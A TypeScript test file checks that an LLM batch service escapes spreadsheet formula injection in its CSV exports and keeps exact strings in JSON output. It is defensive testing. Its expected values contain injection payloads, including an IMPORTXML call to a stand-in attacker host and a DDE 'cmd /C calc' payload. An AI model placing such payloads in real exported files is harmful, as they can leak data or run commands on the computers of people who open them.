import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import modelOutputs from "../fixtures/batches/formula-model-outputs.json";
import payloads from "../fixtures/batches/formula-payloads.json";
import { apiFetch, callApi } from "../support/api";
import { scriptFake, uniqueTag } from "../support/fake-llm";
import { createBatch, downloadJsonl, waitForBatch } from "../batches/helpers";

const SCHEMA = {
  type: "object",
  properties: { summary: { type: "string" }, score: { type: "number" } },
  required: ["summary", "score"],
  additionalProperties: false,
};

/** Runs the payload items. The model echoes each payload as its summary unless it has its own output. */
async function runPayloadBatch() {
  const tag = uniqueTag("formula");
  const outputs = new Map(modelOutputs.map((entry) => [entry.item, entry.output]));
  for (const item of payloads) {
    const output = outputs.get(item.id) ?? { summary: item.text, score: 1 };
    await scriptFake(`<${tag}:${item.id}>`, [{ content: JSON.stringify(output) }]);
  }
  const created = await createBatch({
    operation: "run",
    system_prompt: "Summarise <{tag}:{id}>",
    response_format: { type: "json_schema", json_schema: { name: "review", schema: SCHEMA } },
    items: payloads.map((item) => ({ id: item.id, text: item.text, metadata: { tag } })),
  });
  await waitForBatch(created.id);
  return { id: created.id, outputs };
}

async function rawDownload(path: string): Promise<Uint8Array> {
  const response = await apiFetch(path);
  expect(response.status).toBe(200);
  return new Uint8Array(await response.arrayBuffer());
}

describe("CSV download", () => {
  it("neutralises formula cells and keeps numbers", async () => {
    const { id, outputs } = await runPayloadBatch();
    const csv = await callApi("GET", `/api/batches/${id}/output?format=csv`);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const parsed = Papa.parse<Record<string, string>>(csv.text, { header: true, newline: "\r\n", skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(["index", "id", "text", "tag", "other_metadata", "status", "summary", "score", "error_code", "error_message", "raw"]);
    const byId = new Map(parsed.data.map((row) => [row.id, row]));

    const cell = (itemId: string) => byId.get(itemId)!.summary;
    expect(cell("x1")).toBe(`'=IMPORTXML("http://attacker.example.invalid","//a")`);
    expect(byId.get("x1")!.score).toBe("-3");
    expect(cell("x2")).toBe("'@ mention the team");
    expect(byId.get("x2")!.score).toBe("-0.5");
    expect(cell("x3")).toBe("'-1-1");
    expect(cell("x4")).toBe("'@SUM(1)");
    expect(cell("x5")).toBe("'=1+1\nsecond line of a multi-line comment");
    expect(cell("x6")).toBe("'\t=cmd|' /C calc'!A0");
    expect(cell("x7").startsWith("'=HYPERLINK(")).toBe(true);
    expect(cell("x8")).toBe("'-12.5 is a refund amount");
    expect(byId.get("x8")!.score).toBe("0");
    expect(cell("x9")).toBe("Normal text with = inside");
    expect(cell("x10")).toBe("'\r=2+3");
    expect(csv.text).toContain(`"'=1+1\nsecond line`);

    // Item texts are untrusted too: the input column is neutralised the same way.
    const input = (itemId: string) => byId.get(itemId)!.text;
    expect(input("x1")).toBe("'=SUM(4, 12)");
    expect(input("x2")).toBe("'+1+1");
    expect(input("x4")).toBe("'@SUM(1)");
    expect(input("x5")).toBe("'=1+1\nsecond line of a multi-line comment");
    expect(input("x6")).toBe("'\t=cmd|' /C calc'!A0");
    expect(input("x8")).toBe("'-12.5");
    expect(input("x9")).toBe("Normal text with = inside");
    expect(input("x10")).toBe("'\r=2+3");
    expect(csv.text).toContain(`"'=SUM(4, 12)"`);

    // JSON and JSONL carry the exact strings.
    const { records } = await downloadJsonl(id);
    for (const item of payloads) {
      const record = records.find((candidate) => candidate.id === item.id);
      expect(record.output).toEqual(outputs.get(item.id) ?? { summary: item.text, score: 1 });
      expect(record.input.text).toBe(item.text);
    }
    const json = await callApi("GET", `/api/batches/${id}/output?format=json`);
    expect(json.json.data[0].output.summary).toBe(`=IMPORTXML("http://attacker.example.invalid","//a")`);
  });

  it("bom=true prefixes a UTF-8 BOM", async () => {
    const { id } = await runPayloadBatch();
    const withBom = await rawDownload(`/api/batches/${id}/output?format=csv&bom=true`);
    expect([...withBom.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(withBom.slice(3, 8))).toBe("index");
    const withoutBom = await rawDownload(`/api/batches/${id}/output?format=csv`);
    expect(new TextDecoder().decode(withoutBom.slice(0, 5))).toBe("index");
  });

  it("misspelled escape option is 400", async () => {
    const { id } = await runPayloadBatch();
    const response = await callApi("GET", `/api/batches/${id}/output?format=csv&escapeFormulae=false`);
    expect(response.status).toBe(400);
    expect(response.json.error.message).toContain("escapeFormulae");
  });
});
